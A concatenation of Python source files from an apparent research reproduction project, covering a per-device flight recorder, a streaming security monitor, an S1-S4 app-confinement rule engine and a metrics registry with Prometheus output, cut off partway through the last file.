    ) -> None:
        self.trigger = trigger
        self.device_id = device_id
        self.events = events
        self.metadata = metadata

    @property
    def anchor_seq(self) -> int:
        """The seq of the last recorded event — the replay anchor."""
        return self.events[-1].seq if self.events else 0

    def events_digest(self, upto: Optional[int] = None) -> str:
        return events_digest(self.events, upto=upto)

    def render(self) -> str:
        lines = [
            f"black box: trigger={self.trigger} device={self.device_id} "
            f"events={len(self.events)} anchor={self.anchor_seq} "
            f"digest={self.events_digest()[:16]}"
        ]
        for event in self.events:
            lines.append("  " + event.render())
        return "\n".join(lines)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "kind": "blackbox",
            "trigger": self.trigger,
            "device_id": self.device_id,
            "anchor_seq": self.anchor_seq,
            "events_digest": self.events_digest(),
            "metadata": dict(self.metadata),
            "events": [event.to_dict() for event in self.events],
        }

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "BlackBox":
        return cls(
            trigger=str(data["trigger"]),
            device_id=str(data["device_id"]),
            events=tuple(Event.from_dict(e) for e in data.get("events", [])),
            metadata=dict(data.get("metadata", {})),
        )


class FlightRecorder:
    """The per-device black-box recorder behind one ``armed`` switch.

    Owned by an :class:`~repro.obs.ObsContext` (``ctx.recorder``); shares
    the context's ``device_id`` and metrics registry (the ring's eviction
    counter lands in ``recorder.evicted`` so Prometheus exposition and
    fleet merges pick it up for free). Never enters any hot path itself:
    :meth:`arm` registers listener taps on the tracer, the fault plane,
    the scheduler, and an audit log; :meth:`disarm` detaches every one of
    them, restoring the exact pre-arm state.
    """

    def __init__(self, ctx: Any) -> None:
        self._ctx = ctx
        self.armed = False
        self.capacity = 4096
        self.seq = 0
        self.evicted = 0
        self.dumps: List[BlackBox] = []
        self.max_dumps = 8
        self.dumps_suppressed = 0
        self.halted_event: Optional[Event] = None
        self._events: List[Event] = []
        #: scheduler decisions seen through the decision tap, in order —
        #: their digest is the dump's ``schedule_digest`` metadata.
        self.decisions: List[Tuple[int, str, str]] = []
        self._halt_at: Optional[int] = None
        self._autoseal = True
        self._audit_log: Optional[Any] = None
        self._sched: Optional[Any] = None
        self._faults: Optional[Any] = None
        self._arm_config: Dict[str, Any] = {}

    # -- lifecycle -------------------------------------------------------

    def arm(
        self,
        capacity: int = 4096,
        audit_log: Optional[Any] = None,
        halt_at: Optional[int] = None,
        autoseal: bool = True,
    ) -> "FlightRecorder":
        """Attach the taps and start recording from a clean ring.

        ``halt_at`` arms replay-to-anchor: the moment event ``seq ==
        halt_at`` is recorded, the scheduler (when live) is asked to stop
        and :class:`AnchorReached` is raised through the recording call
        site. ``autoseal=False`` disables the trigger-driven dumps (the
        taps still record; only explicit :meth:`seal` calls dump).
        """
        if self.armed:
            self.disarm()
        # Lazy plane imports: this module must stay importable from
        # ``repro.obs.__init__`` without dragging in sched/faults (both of
        # which import repro.obs themselves).
        from repro.faults.plane import FAULTS
        from repro.sched.reactor import SCHED

        self._sched = SCHED
        self._faults = FAULTS
        self.capacity = int(capacity)
        self.seq = 0
        self.evicted = 0
        self.dumps = []
        self.dumps_suppressed = 0
        self.halted_event = None
        self._events = []
        self.decisions = []
        self._halt_at = halt_at
        self._autoseal = autoseal
        self._audit_log = audit_log
        self._arm_config = {
            "capacity": capacity,
            "audit_log": audit_log,
            "halt_at": halt_at,
            "autoseal": autoseal,
        }
        self._ctx.tracer.add_listener(self._on_span)
        FAULTS.add_listener(self._on_fault)
        SCHED.add_decision_listener(self._on_decision)
        SCHED.add_trigger_listener(self._on_trigger)
        SCHED.add_lock_listener(self._on_lock)
        if audit_log is not None:
            audit_log.add_listener(self._on_audit)
        self.armed = True
        return self

    def disarm(self) -> None:
        """Detach every tap; the ring and sealed dumps stay readable."""
        if not self.armed:
            return
        self.armed = False
        self._ctx.tracer.remove_listener(self._on_span)
        if self._faults is not None:
            self._faults.remove_listener(self._on_fault)
        if self._sched is not None:
            self._sched.remove_decision_listener(self._on_decision)
            self._sched.remove_trigger_listener(self._on_trigger)
            self._sched.remove_lock_listener(self._on_lock)
        if self._audit_log is not None:
            self._audit_log.remove_listener(self._on_audit)

    @property
    def arm_config(self) -> Dict[str, Any]:
        """The kwargs the last :meth:`arm` was called with (capture()
        uses this to restore an outer arm-state on exit)."""
        return dict(self._arm_config)

    # -- the ring --------------------------------------------------------

    def events(self) -> List[Event]:
        return list(self._events)

    def record(
        self, plane: str, name: str, detail: str = "", /, **attrs: Any
    ) -> Optional[Event]:
        """Append one causally ordered event (no-op when disarmed)."""
        if not self.armed:
            return None
        self.seq += 1
        sched = self._sched
        vclock = sched.clock if sched is not None and sched.enabled else 0.0
        event = Event(
            seq=self.seq,
            vclock=vclock,
            plane=plane,
            name=name,
            detail=detail,
            attrs=attrs,
            device_id=self._ctx.device_id,
        )
        if len(self._events) >= self.capacity:
            del self._events[0]
            self.evicted += 1
            self._ctx.metrics.count("recorder.evicted")
        self._events.append(event)
        if self._halt_at is not None and event.seq == self._halt_at:
            self.halted_event = event
            if sched is not None and sched.enabled:
                sched.request_stop()
            raise AnchorReached(event)
        return event

    # -- taps (attached by arm, detached by disarm) ----------------------

    def _on_span(self, span: Any) -> None:
        ctx = span.attrs.get("ctx")
        detail = span.status if ctx is None else f"{span.status} ctx={ctx}"
        plane = "prov" if span.name.startswith("prov.") else "span"
        self.record(plane, span.name, detail, **dict(span.attrs))

    def _on_fault(self, point: str, outcome: str, ctx: Dict[str, Any]) -> None:
        self.record("fault", point, outcome, **dict(ctx))

    def _on_decision(self, step: int, task: str, point: str) -> None:
        self.decisions.append((step, task, point))
        self.record("sched", "decision", f"{task} @ {point}", step=step)

    def _on_lock(self, task: Any, lock: Any, mode: str, action: str) -> None:
        self.record(
            "lock",
            f"{action}",
            f"{mode}:{lock.name} by {getattr(task, 'name', '?')}",
        )

    def _on_trigger(self, kind: str, report: str) -> None:
        self.record("sched", f"trigger.{kind}", "", report=report)
        if self._autoseal:
            self.seal(kind if kind in SEAL_TRIGGERS else "manual", report=report)

    def _on_audit(self, event: Any) -> None:
        self.record(
            "audit",
            event.category,
            event.message,
            **dict(event.details),
        )
        if not self._autoseal:
            return
        if event.category == "violation":
            self.seal("violation", rule=event.details.get("rule", ""))
        elif event.category == "timeout":
            self.seal("delegate-timeout")

    # -- sealing ---------------------------------------------------------

    def schedule_digest(self) -> str:
        """sha256 of the scheduler decisions seen through the tap."""
        from repro.sched.reactor import schedule_digest as _digest

        return _digest(self.decisions)

    def seal(self, trigger: str = "manual", **extra: Any) -> Optional[BlackBox]:
        """Freeze the ring into a :class:`BlackBox` dump.

        Metadata carries the run identity (:func:`~repro.obs.artifacts.run_metadata`),
        the armed fault policies, the fault-plane consult schedule, and
        the scheduler decision digest — everything a postmortem needs to
        replay the run. Dumps beyond ``max_dumps`` are counted, not kept.
        """
        if len(self.dumps) >= self.max_dumps:
            self.dumps_suppressed += 1
            return None
        from repro.obs.artifacts import run_metadata

        faults = self._faults
        armed: Dict[str, List[str]] = {}
        fault_schedule = ""
        if faults is not None:
            armed = {
                point: [policy.describe for policy in policies]
                for point, policies in sorted(faults._armed.items())
            }
            fault_schedule = faults.schedule_bytes().decode()
        metadata: Dict[str, Any] = dict(run_metadata())
        metadata.update(
            {
                "trigger": trigger,
                "armed_faults": armed,
                "fault_schedule": fault_schedule,
                "schedule_digest": self.schedule_digest(),
                "decisions": list(self.decisions),
                "evicted": self.evicted,
            }
        )
        metadata.update(extra)
        box = BlackBox(
            trigger=trigger,
            device_id=self._ctx.device_id,
            events=tuple(self._events),
            metadata=metadata,
        )
        self.dumps.append(box)
        return box

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        state = "armed" if self.armed else "disarmed"
        return (
            f"<FlightRecorder {self._ctx.device_id} ({state}) "
            f"events={len(self._events)} dumps={len(self.dumps)}>"
        )
