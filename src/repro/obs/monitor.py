"""The online security monitor: S1-S4 evaluated as each span closes.

:class:`SecurityMonitor` subscribes to the tracer through
:meth:`repro.obs.trace.Tracer.add_listener` and runs the same rule
engine the offline sweep uses (:func:`repro.obs.sweep.evaluate_span`)
against every finished span — so a confinement violation is flagged the
moment the offending operation returns, not after the workload ends.
Context inheritance matches the tree-based sweep: when a span did not
tag its own ``ctx`` (aufs/cow/sql spans), the monitor reads it off the
nearest still-open ancestor, which is exactly the span the tree walk
would have inherited from.

With a :class:`repro.obs.provenance.ProvenanceLedger` armed, the
taint-flow form of S1 applies too, and every violation is recorded into
the device :class:`repro.core.audit.AuditLog` with its full derivation
chain — the post-crash validation in ``Device.recover()`` uses this to
report *how* leaked data got where it was found.
"""

from __future__ import annotations

from typing import Any, Iterable, List, Optional

from repro.obs.sweep import Violation, evaluate_span
from repro.obs.trace import Span, Tracer

__all__ = ["SecurityMonitor"]


class SecurityMonitor:
    """Streaming S1-S4 checker attached to a tracer.

    Usable as a context manager::

        with SecurityMonitor(obs.tracer, packages, ledger=obs.provenance) as mon:
            run_workload()
        assert not mon.violations

    ``audit_log`` (an :class:`~repro.core.audit.AuditLog`) receives one
    ``violation`` entry per finding, lineage included.
    """

    def __init__(
        self,
        tracer: Tracer,
        packages: Iterable[str],
        ledger: Optional[Any] = None,
        audit_log: Optional[Any] = None,
    ) -> None:
        self._tracer = tracer
        self._packages = set(packages)
        self._ledger = ledger
        self._audit_log = audit_log
        self._attached = False
        #: Violations in the order their spans closed.
        self.violations: List[Violation] = []
        #: Positive control: spans evaluated under a delegate context.
        self.delegate_spans = 0
        #: Total spans the monitor saw.
        self.spans_seen = 0

    # -- lifecycle -------------------------------------------------------

    def attach(self) -> "SecurityMonitor":
        """Start receiving finished spans (idempotent)."""
        if not self._attached:
            self._tracer.add_listener(self._on_span)
            self._attached = True
        return self

    def detach(self) -> None:
        """Stop receiving spans (idempotent)."""
        if self._attached:
            self._tracer.remove_listener(self._on_span)
            self._attached = False

    def __enter__(self) -> "SecurityMonitor":
        return self.attach()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.detach()

    # -- the streaming hook ---------------------------------------------

    def _inherited_ctx(self, span: Span) -> Optional[str]:
        ctx = span.attrs.get("ctx")
        if ctx is not None:
            return ctx
        # The tracer pops a span off the stack *before* notifying
        # listeners, so the open ancestors are still there: the nearest
        # one carrying a ctx is the span the tree walk would inherit from.
        for ancestor in reversed(self._tracer._stack):
            ctx = ancestor.attrs.get("ctx")
            if ctx is not None:
                return ctx
        return None

    def _on_span(self, span: Span) -> None:
        self.spans_seen += 1
        ctx = self._inherited_ctx(span)
        found, counted = evaluate_span(
            span.name, span.attrs, span.status, ctx, self._packages, self._ledger
        )
        if counted:
            self.delegate_spans += 1
        for violation in found:
            self.violations.append(violation)
            if self._audit_log is not None:
                self._audit_log.record_violation(
                    violation.rule,
                    violation.message,
                    lineage=violation.lineage,
                    span=span.name,
                    ctx=ctx or "",
                )

    # -- results ---------------------------------------------------------

    @property
    def messages(self) -> List[str]:
        """Violation messages, sweep-compatible strings."""
        return [violation.message for violation in self.violations]

    def explain_all(self) -> List[str]:
        """Every violation rendered with its lineage chain."""
        return [violation.render() for violation in self.violations]
