"""The S1-S4 security rule engine, shared by sweep and monitor.

Given spans recorded during a workload, :func:`evaluate_span`
mechanically replays the paper's confinement goals over each one:

- **S1** (initiator secrecy): no span attributed to a delegate context
  ``B^A`` may carry a virtual path under another package's Priv; and —
  with a provenance ledger armed — no non-delegate write may publish
  data whose taint derives from a foreign package's Priv.
- **S2** (initiator integrity): no union mount observed under a delegate
  context may resolve its writable branch into a root keyed to a
  foreign package.
- **S3** (delegate secrecy): no plain app context may successfully read
  a path under another package's Priv.
- **S4** (delegate integrity): no plain app context may successfully
  write into another package's Priv.

The same predicates back the *offline* :func:`sweep` over finished span
trees (used by the trace-invariant suite and ``Device.recover()``) and
the *online* :class:`repro.obs.monitor.SecurityMonitor`, which evaluates
every span the moment it closes — one rule engine, two drive modes, so
the two checkers can never drift apart.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, Iterable, Iterator, List, Optional, Tuple

from repro.obs.trace import SpanNode

DATA_PREFIX = "/data/data/"
PPRIV_SEGMENT = "ppriv"

__all__ = [
    "DATA_PREFIX",
    "PPRIV_SEGMENT",
    "Violation",
    "evaluate_span",
    "foreign_keys",
    "parse_delegate_ctx",
    "priv_owner",
    "spans_with_inherited_ctx",
    "sweep",
    "sweep_violations",
    "writable_root_violations",
]


def _initiator_key(package: str) -> str:
    # Same sanitization as repro.core.cow.initiator_key, duplicated here so
    # the obs layer stays import-independent of the core layer.
    import re

    return re.sub(r"\W", "_", package)


@dataclass
class Violation:
    """One security-goal violation found by the rule engine."""

    rule: str  # "S1" | "S2" | "S3" | "S4"
    span: str
    ctx: Optional[str]
    message: str
    #: Provenance derivation chain (empty without a ledger).
    lineage: List[str] = field(default_factory=list)

    def render(self) -> str:
        """The violation with its lineage chain, if any."""
        if not self.lineage:
            return f"{self.rule}: {self.message}"
        return f"{self.rule}: {self.message}\n    " + " <- ".join(self.lineage)


def spans_with_inherited_ctx(
    trees: Iterable[SpanNode],
) -> Iterator[Tuple[SpanNode, Optional[str]]]:
    """Yield ``(node, ctx)`` for every span, with ``ctx`` taken from the
    nearest ancestor-or-self span that recorded one (vfs and am spans tag
    themselves; aufs/cow/sql spans inherit the caller's)."""

    def walk(node, ctx):
        ctx = node.span.attrs.get("ctx", ctx)
        yield node, ctx
        for child in node.children:
            yield from walk(child, ctx)

    for tree in trees:
        yield from walk(tree, None)


def parse_delegate_ctx(ctx: Optional[str]) -> Optional[Tuple[str, str]]:
    """``"B^A"`` -> ``(B, A)``; ``None`` for non-delegate contexts."""
    if ctx and "^" in ctx:
        app, _, initiator = ctx.partition("^")
        return app, initiator
    return None


def priv_owner(path: str) -> Optional[str]:
    """The package whose Priv a ``/data/data/...`` path falls under, with
    pPriv paths resolved to the package segment after ``ppriv``."""
    if not path.startswith(DATA_PREFIX):
        return None
    segments = [s for s in path[len(DATA_PREFIX):].split("/") if s]
    if not segments:
        return None
    if segments[0] == PPRIV_SEGMENT:
        return segments[1] if len(segments) > 1 else None
    return segments[0]


def foreign_keys(all_packages, delegate: str, initiator: str):
    """Sanitized branch-directory keys of every package that is neither
    the delegate nor its initiator."""
    return {
        _initiator_key(pkg): pkg
        for pkg in all_packages
        if pkg not in (delegate, initiator)
    }


def writable_root_violations(attrs: Dict[str, Any], foreign):
    """A delegate's writable branch root must never be keyed to another
    package: neither a foreign per-app area (``/<key>/...``) nor a pair
    area with a foreign initiator (``.../<x>@<key>/...``)."""
    root = attrs.get("writable_root")
    if not root:
        return []
    hits = []
    for segment in root.strip("/").split("/"):
        parts = segment.split("@") if "@" in segment else [segment]
        for part in parts:
            if part in foreign:
                hits.append((root, foreign[part]))
    return hits


def _is_write_span(name: str, attrs: Dict[str, Any]) -> bool:
    if name == "vfs.write" or name == "vol.commit":
        return True
    return name == "aufs.open" and bool(attrs.get("write"))


def evaluate_span(
    name: str,
    attrs: Dict[str, Any],
    status: str,
    ctx: Optional[str],
    all_packages,
    ledger: Optional[Any] = None,
) -> Tuple[List[Violation], bool]:
    """Apply every S1-S4 predicate to one span.

    Returns ``(violations, is_delegate_span)``; the flag feeds the
    positive-control count that the caller actually saw confined work.
    ``ledger`` is an optional :class:`repro.obs.provenance
    .ProvenanceLedger` enabling the taint-flow form of S1 (publishing
    data derived from a foreign Priv) with full lineage attached.
    """
    violations: List[Violation] = []
    # prov.* bookkeeping events mirror the span they ran under; evaluating
    # them too would double-count every finding.
    if status != "ok" or name.startswith("prov."):
        return violations, False
    path = attrs.get("path", "") or ""
    pair = parse_delegate_ctx(ctx)
    if pair is not None:
        delegate, initiator = pair
        owner = priv_owner(path)
        if owner is not None and owner not in (delegate, initiator):
            violations.append(
                Violation(
                    "S1", name, ctx,
                    f"{name} in ctx {ctx} touched Priv({owner}): {path}",
                )
            )
        for root, pkg in writable_root_violations(
            attrs, foreign_keys(all_packages, delegate, initiator)
        ):
            violations.append(
                Violation(
                    "S2", name, ctx,
                    f"{name} in ctx {ctx} writes into a branch keyed to "
                    f"{pkg}: {root}",
                )
            )
        return violations, True
    # Non-delegate rules only apply to contexts that are installed
    # packages: the system process (ctx "system") legitimately reaches
    # into provider-owned files on apps' behalf.
    if ctx is None or ctx not in all_packages:
        return violations, False
    app = ctx
    owner = priv_owner(path)
    if owner is not None and owner != app:
        if _is_write_span(name, attrs):
            violations.append(
                Violation(
                    "S4", name, ctx,
                    f"{name} in ctx {ctx} wrote into Priv({owner}): {path}",
                )
            )
        else:
            violations.append(
                Violation(
                    "S3", name, ctx,
                    f"{name} in ctx {ctx} read Priv({owner}): {path}",
                )
            )
    if ledger is not None and _is_write_span(name, attrs):
        destination = attrs.get("destination") or path
        if destination and priv_owner(destination) is None:
            foreign = sorted(
                str(label)
                for label in ledger.taint_of(destination)
                if (label.kind == "priv" and label.owner != app)
                or (label.kind == "dpriv" and label.via != app)
            )
            if foreign:
                lineage = ledger.explain(destination)
                violations.append(
                    Violation(
                        "S1", name, ctx,
                        f"{name} in ctx {ctx} published data derived from "
                        f"{', '.join(foreign)} to public {destination}",
                        lineage=list(lineage.steps),
                    )
                )
    return violations, False


def sweep_violations(
    trees, all_packages, ledger: Optional[Any] = None
) -> Tuple[List[Violation], int]:
    """Replay the rule engine over every recorded span (offline mode).

    Returns ``(violations, delegate_span_count)``; the count is the
    positive control that the sweep actually saw confined work.
    """
    violations: List[Violation] = []
    delegate_spans = 0
    packages = set(all_packages)
    for node, ctx in spans_with_inherited_ctx(trees):
        found, counted = evaluate_span(
            node.span.name, node.span.attrs, node.span.status, ctx, packages, ledger
        )
        violations.extend(found)
        if counted:
            delegate_spans += 1
    return violations, delegate_spans


def sweep(trees, all_packages, ledger: Optional[Any] = None) -> Tuple[List[str], int]:
    """Replay the confinement check over every recorded span.

    Message-only variant of :func:`sweep_violations`, kept for callers
    that treat violations as opaque strings.
    """
    violations, delegate_spans = sweep_violations(trees, all_packages, ledger)
    return [v.message for v in violations], delegate_spans
