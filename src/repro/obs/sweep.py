"""The S1/S2 trace sweep: security invariants re-checked from span trees.

Given the trees recorded during a workload, :func:`sweep` mechanically
replays the paper's confinement goals over every span: no span attributed
to a delegate context ``B^A`` may carry a virtual path under another
package's Priv (S1), and no union mount observed under a delegate context
may resolve its writable branch into a root keyed to a foreign package
(S2). The same property the integration suite asserts behaviourally — but
checked against what the instrumented layers actually *did*.

This module is shared by the trace-invariant test suite and by
``Device.recover()``, which re-validates the goals after crash recovery
(the fault plane's "no security-goal violation after any crash"
criterion).
"""

from __future__ import annotations

from typing import Iterable, Iterator, List, Optional, Tuple

from repro.obs.trace import SpanNode

DATA_PREFIX = "/data/data/"
PPRIV_SEGMENT = "ppriv"

__all__ = [
    "DATA_PREFIX",
    "PPRIV_SEGMENT",
    "foreign_keys",
    "parse_delegate_ctx",
    "priv_owner",
    "spans_with_inherited_ctx",
    "sweep",
    "writable_root_violations",
]


def _initiator_key(package: str) -> str:
    # Same sanitization as repro.core.cow.initiator_key, duplicated here so
    # the obs layer stays import-independent of the core layer.
    import re

    return re.sub(r"\W", "_", package)


def spans_with_inherited_ctx(
    trees: Iterable[SpanNode],
) -> Iterator[Tuple[SpanNode, Optional[str]]]:
    """Yield ``(node, ctx)`` for every span, with ``ctx`` taken from the
    nearest ancestor-or-self span that recorded one (vfs and am spans tag
    themselves; aufs/cow/sql spans inherit the caller's)."""

    def walk(node, ctx):
        ctx = node.span.attrs.get("ctx", ctx)
        yield node, ctx
        for child in node.children:
            yield from walk(child, ctx)

    for tree in trees:
        yield from walk(tree, None)


def parse_delegate_ctx(ctx: Optional[str]) -> Optional[Tuple[str, str]]:
    """``"B^A"`` -> ``(B, A)``; ``None`` for non-delegate contexts."""
    if ctx and "^" in ctx:
        app, _, initiator = ctx.partition("^")
        return app, initiator
    return None


def priv_owner(path: str) -> Optional[str]:
    """The package whose Priv a ``/data/data/...`` path falls under, with
    pPriv paths resolved to the package segment after ``ppriv``."""
    if not path.startswith(DATA_PREFIX):
        return None
    segments = [s for s in path[len(DATA_PREFIX):].split("/") if s]
    if not segments:
        return None
    if segments[0] == PPRIV_SEGMENT:
        return segments[1] if len(segments) > 1 else None
    return segments[0]


def foreign_keys(all_packages, delegate: str, initiator: str):
    """Sanitized branch-directory keys of every package that is neither
    the delegate nor its initiator."""
    return {
        _initiator_key(pkg): pkg
        for pkg in all_packages
        if pkg not in (delegate, initiator)
    }


def writable_root_violations(node, ctx_pair, foreign):
    """A delegate's writable branch root must never be keyed to another
    package: neither a foreign per-app area (``/<key>/...``) nor a pair
    area with a foreign initiator (``.../<x>@<key>/...``)."""
    root = node.span.attrs.get("writable_root")
    if not root:
        return []
    hits = []
    for segment in root.strip("/").split("/"):
        parts = segment.split("@") if "@" in segment else [segment]
        for part in parts:
            if part in foreign:
                hits.append((root, foreign[part]))
    return hits


def sweep(trees, all_packages) -> Tuple[List[str], int]:
    """Replay the S1/S2 confinement check over every recorded span.

    Returns ``(violations, delegate_span_count)``; the count is the
    positive control that the sweep actually saw confined work.
    """
    violations: List[str] = []
    delegate_spans = 0
    for node, ctx in spans_with_inherited_ctx(trees):
        pair = parse_delegate_ctx(ctx)
        if pair is None or node.span.status != "ok":
            continue
        delegate_spans += 1
        delegate, initiator = pair
        owner = priv_owner(node.span.attrs.get("path", ""))
        if owner is not None and owner not in (delegate, initiator):
            violations.append(
                f"{node.name} in ctx {ctx} touched Priv({owner}): "
                f"{node.span.attrs['path']}"
            )
        for root, pkg in writable_root_violations(
            node, pair, foreign_keys(all_packages, delegate, initiator)
        ):
            violations.append(
                f"{node.name} in ctx {ctx} writes into a branch keyed to "
                f"{pkg}: {root}"
            )
    return violations, delegate_spans
