"""The metrics registry: counters, gauges, histograms, snapshot/diff.

Counters are monotone (Anception-style per-operation accounting at the
virtualization boundary), gauges are point-in-time values, histograms
bucket observations against fixed boundaries chosen at registration.

``snapshot()`` freezes the whole registry; ``diff(a, b)`` returns the
elementwise delta ``b - a`` as another snapshot, and snapshots form a
group under ``+``/``-`` so that ``diff(a, b) + diff(b, c) == diff(a, c)``
— the property the benchmark breakdowns rely on when they subtract a
warm-up window from a measurement window.
"""

from __future__ import annotations

import bisect
import re
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from repro.errors import ReproError

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "HistogramSnapshot",
    "Metrics",
    "MetricsSnapshot",
    "diff",
    "escape_label_value",
    "format_labels",
    "render_prometheus",
    "DEFAULT_MS_BUCKETS",
    "DEFAULT_BYTE_BUCKETS",
]

#: Latency boundaries in milliseconds (upper-inclusive bucket edges).
DEFAULT_MS_BUCKETS: Tuple[float, ...] = (
    0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0, 50.0, 100.0, 1000.0,
)

#: Payload-size boundaries in bytes.
DEFAULT_BYTE_BUCKETS: Tuple[float, ...] = (
    64, 256, 1024, 4096, 16384, 65536, 262144, 1048576,
)


class MetricError(ReproError):
    """Misuse of the metrics API (non-monotone counter, bucket mismatch)."""


class Counter:
    """A monotonically increasing count."""

    __slots__ = ("name", "value")

    def __init__(self, name: str) -> None:
        self.name = name
        self.value = 0

    def inc(self, n: int = 1) -> None:
        if n < 0:
            raise MetricError(f"counter {self.name}: increment must be >= 0, got {n}")
        self.value += n


class Gauge:
    """A value that can move in both directions."""

    __slots__ = ("name", "value")

    def __init__(self, name: str) -> None:
        self.name = name
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)

    def inc(self, n: float = 1.0) -> None:
        self.value += n

    def dec(self, n: float = 1.0) -> None:
        self.value -= n


class Histogram:
    """Fixed-boundary histogram.

    ``boundaries`` are upper-inclusive bucket edges; one overflow bucket
    catches everything above the last edge, so ``len(counts) ==
    len(boundaries) + 1`` and ``sum(counts) == count`` always holds.
    """

    __slots__ = ("name", "boundaries", "counts", "total", "count")

    def __init__(self, name: str, boundaries: Sequence[float]) -> None:
        edges = tuple(float(b) for b in boundaries)
        if not edges or list(edges) != sorted(set(edges)):
            raise MetricError(
                f"histogram {name}: boundaries must be non-empty, sorted, unique"
            )
        self.name = name
        self.boundaries = edges
        self.counts = [0] * (len(edges) + 1)
        self.total = 0.0
        self.count = 0

    def observe(self, value: float) -> None:
        self.counts[bisect.bisect_left(self.boundaries, value)] += 1
        self.total += value
        self.count += 1


@dataclass(frozen=True)
class HistogramSnapshot:
    """Immutable histogram state; supports elementwise +/-."""

    boundaries: Tuple[float, ...]
    counts: Tuple[int, ...]
    total: float
    count: int

    def _combine(self, other: "HistogramSnapshot", sign: int) -> "HistogramSnapshot":
        if other.boundaries != self.boundaries:
            raise MetricError("histogram snapshots have different boundaries")
        return HistogramSnapshot(
            boundaries=self.boundaries,
            counts=tuple(a + sign * b for a, b in zip(self.counts, other.counts)),
            total=self.total + sign * other.total,
            count=self.count + sign * other.count,
        )

    def __add__(self, other: "HistogramSnapshot") -> "HistogramSnapshot":
        return self._combine(other, 1)

    def __sub__(self, other: "HistogramSnapshot") -> "HistogramSnapshot":
        return self._combine(other, -1)

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    def quantile(self, q: float) -> float:
        """The ``q``-quantile estimated by linear interpolation within the
        bucket that contains it.

        Buckets only record counts, so the estimate assumes observations
        are spread uniformly inside each bucket; the first finite edge
        bounds the first bucket below at 0 (all default bucket sets are
        non-negative latencies/sizes). Conventions:

        - an empty (or non-positive ``count``) snapshot returns ``0.0``;
        - a quantile landing in the overflow (``+Inf``) bucket clamps to
          the last finite boundary — there is no upper edge to
          interpolate toward;
        - ``q`` outside ``[0, 1]`` raises :class:`MetricError`.
        """
        if not 0.0 <= q <= 1.0:
            raise MetricError(f"quantile: q must be in [0, 1], got {q}")
        if self.count <= 0:
            return 0.0
        target = q * self.count
        cumulative = 0
        lower = 0.0
        for edge, bucket in zip(self.boundaries, self.counts):
            if bucket > 0 and cumulative + bucket >= target:
                fraction = (target - cumulative) / bucket
                return lower + (edge - lower) * fraction
            cumulative += bucket
            lower = edge
        # Landed in the +Inf overflow bucket: clamp to the last edge.
        return self.boundaries[-1]


_EMPTY_HIST_CACHE: Dict[Tuple[float, ...], HistogramSnapshot] = {}


def _empty_hist(boundaries: Tuple[float, ...]) -> HistogramSnapshot:
    snap = _EMPTY_HIST_CACHE.get(boundaries)
    if snap is None:
        snap = HistogramSnapshot(boundaries, (0,) * (len(boundaries) + 1), 0.0, 0)
        _EMPTY_HIST_CACHE[boundaries] = snap
    return snap


@dataclass(frozen=True)
class MetricsSnapshot:
    """A frozen view of the registry; forms a group under +/-.

    Names absent from one operand are treated as zero, so diffs between
    snapshots taken before and after a metric first appeared still work.
    """

    counters: Dict[str, int] = field(default_factory=dict)
    gauges: Dict[str, float] = field(default_factory=dict)
    histograms: Dict[str, HistogramSnapshot] = field(default_factory=dict)

    def _combine(self, other: "MetricsSnapshot", sign: int) -> "MetricsSnapshot":
        counters = dict(self.counters)
        for name, value in other.counters.items():
            counters[name] = counters.get(name, 0) + sign * value
        gauges = dict(self.gauges)
        for name, value in other.gauges.items():
            gauges[name] = gauges.get(name, 0.0) + sign * value
        histograms = dict(self.histograms)
        for name, hist in other.histograms.items():
            base = histograms.get(name, _empty_hist(hist.boundaries))
            histograms[name] = base._combine(hist, sign)
        return MetricsSnapshot(counters=counters, gauges=gauges, histograms=histograms)

    def __add__(self, other: "MetricsSnapshot") -> "MetricsSnapshot":
        return self._combine(other, 1)

    def __sub__(self, other: "MetricsSnapshot") -> "MetricsSnapshot":
        return self._combine(other, -1)

    def counter(self, name: str) -> int:
        return self.counters.get(name, 0)

    def nonzero(self) -> "MetricsSnapshot":
        """Drop zero-valued entries (normal form, for display and equality
        across snapshots that materialized different metric sets)."""
        return MetricsSnapshot(
            counters={k: v for k, v in self.counters.items() if v != 0},
            gauges={k: v for k, v in self.gauges.items() if v != 0.0},
            histograms={k: h for k, h in self.histograms.items() if h.count != 0},
        )


def diff(before: MetricsSnapshot, after: MetricsSnapshot) -> MetricsSnapshot:
    """The elementwise delta ``after - before``."""
    return after - before


_PROM_INVALID = re.compile(r"[^a-zA-Z0-9_:]")


def _prom_name(name: str) -> str:
    """Sanitize a metric name for the Prometheus text format: invalid
    characters collapse to ``_`` and a leading digit gains a prefix."""
    sanitized = _PROM_INVALID.sub("_", name)
    if sanitized and sanitized[0].isdigit():
        sanitized = "_" + sanitized
    return sanitized


def _prom_number(value: float) -> str:
    """Render a float the way Prometheus expects (integral values bare)."""
    return str(int(value)) if float(value).is_integer() else repr(float(value))


def escape_label_value(value: str) -> str:
    """Escape a label value per the exposition format: backslash, double
    quote and newline become ``\\\\``, ``\\"`` and ``\\n``."""
    return (
        str(value)
        .replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\n", "\\n")
    )


def _escape_help(text: str) -> str:
    """Escape ``# HELP`` text: backslash and newline only (no quotes)."""
    return str(text).replace("\\", "\\\\").replace("\n", "\\n")


def format_labels(labels: Optional[Dict[str, str]], extra: Optional[Tuple[str, str]] = None) -> str:
    """Render a ``{key="value",...}`` label set (sorted by key; ``extra``
    — e.g. the histogram ``le`` edge — appended last). Empty labels render
    as the empty string, keeping unlabeled output byte-compatible."""
    pairs = [
        (str(k), escape_label_value(v)) for k, v in sorted((labels or {}).items())
    ]
    if extra is not None:
        pairs.append((extra[0], escape_label_value(extra[1])))
    if not pairs:
        return ""
    return "{" + ",".join(f'{k}="{v}"' for k, v in pairs) + "}"


def render_prometheus(
    snapshot: "MetricsSnapshot",
    labels: Optional[Dict[str, str]] = None,
    help_text: Optional[Dict[str, str]] = None,
    type_lines: bool = True,
) -> List[str]:
    """One registry snapshot as exposition-format lines.

    ``labels`` is attached to every series (the fleet exporter passes
